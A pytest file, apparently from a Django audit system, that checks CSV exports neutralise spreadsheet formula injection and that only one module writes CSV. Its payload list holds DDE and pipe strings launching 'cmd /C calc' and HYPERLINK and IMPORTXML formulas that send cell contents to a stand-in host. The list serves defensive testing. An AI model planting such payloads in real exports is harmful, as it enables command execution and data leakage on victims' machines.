"""No cell that leaves the system is a formula, and no other list leaves it (G20, T25)."""

import ast
import csv
import io
import random
import unicodedata
from pathlib import Path

import pytest

from audit import cells, chain
from audit.log import record
from audit.models import Link

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://elders.example/?a="&A1,"klik")', "SUM(A1:A9)", "rundll32|'x'!A",
    'IMPORTXML("https://elders.example","//a")', "WEBSERVICE(A1)", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "2",
)  # fmt: skip
STARTS = "=+-@＝＋－＠﹦﹢﹣﹫\t\r\n"
BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u2060", "  ", " \u200d", "\x00")


def formulas() -> list[str]:
    """Five hundred, of every start that some program takes for a formula, with what hides it before it."""
    made = [before + start + payload for start in STARTS for before in BEFORE for payload in PAYLOADS]
    return random.Random(25).sample(made, 500)


def runs(cell: str) -> bool:
    """Whether a program that trims and folds as eagerly as any would take the cell for a formula."""
    if cell.startswith("'"):
        return False
    seen = unicodedata.normalize("NFKC", cell)
    bare = seen.lstrip(" \u200b\u200c\u200d\u2060\ufeff\x00")
    return seen[:1] in set("\t\r\n") or bare[:1] in set("=+-@\t\r\n")


def test_g20_no_formula_of_five_hundred_is_one_in_a_cell() -> None:
    made = formulas()
    assert len(set(made)) == 500 and all(runs(text) for text in made)
    assert [text for text in made if runs(cells.safe_cell(text))] == []


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("", "Kerkstraat 1", "a=b", "12-3-2026", "'s-Hertogenbosch", "user:7", "3"):
        assert cells.safe_cell(text) == text


def test_cell_cannot_end_its_line_or_its_column() -> None:
    """Quotes and line feeds are doubled and kept inside, as RFC 4180 asks."""
    text = 'a";=1+1\r\n"=2+2'
    line = cells._line([text, "b"]).decode()
    assert list(csv.reader(io.StringIO(line, newline=""), delimiter=";")) == [[text, "b"]]


@pytest.mark.django_db
def test_g20_export_of_the_log_holds_no_formula() -> None:
    """Through the whole export: what a hostile actor, roles or reference would bring into it."""
    for text in formulas()[:60]:
        clean = "".join(c for c in text if c.isprintable())[:60]
        record("area.created", subject=clean, by="user:1")
    chain.sweep()
    links = Link.objects.select_related("event").order_by("number")
    assert links.count() == 60
    written = b"".join(cells.csv_lines(links, ["nummer", "=1+1"])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(written, newline=""), delimiter=";"))
    assert len(rows) == 61
    assert [cell for row in rows for cell in row if runs(cell)] == []


def test_no_other_list_leaves_the_system() -> None:
    """One module writes cells, one page and one command call it, and nobody makes another kind of sheet (D6)."""
    writers, callers, sheets = set(), set(), set()
    for app in ("audit", "bans", "config", "notices", "oversight", "participants", "rights", "toolbox"):
        for path in (ROOT / app).rglob("*.py"):
            text, name = path.read_text(encoding="utf-8"), path.relative_to(ROOT).as_posix()
            calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call)}
            if calls & {"csv.writer", "csv.DictWriter"}:
                writers.add(name)
            if calls & {"csv_lines", "cells.csv_lines", "csv_table"}:
                callers.add(name)
            if any(word in text for word in ("openpyxl", "xlsxwriter", "spreadsheetml", "opendocument", "odfpy")):
                sheets.add(name)
    assert writers == {"audit/cells.py"}
    assert callers == {
        "participants/pages/log.py",
        "participants/management/commands/export_log.py",
        "oversight/dossier/papers.py",
        "oversight/figures/pages.py",
        "oversight/package/contents.py",
        "rights/figures/pages.py",
        "toolbox/catalogue/open_data.py",
    }
    # A text to work on, with a table of words in it: nothing that a program counts with.
    assert sheets == {"toolbox/plans/pages/exports.py"}
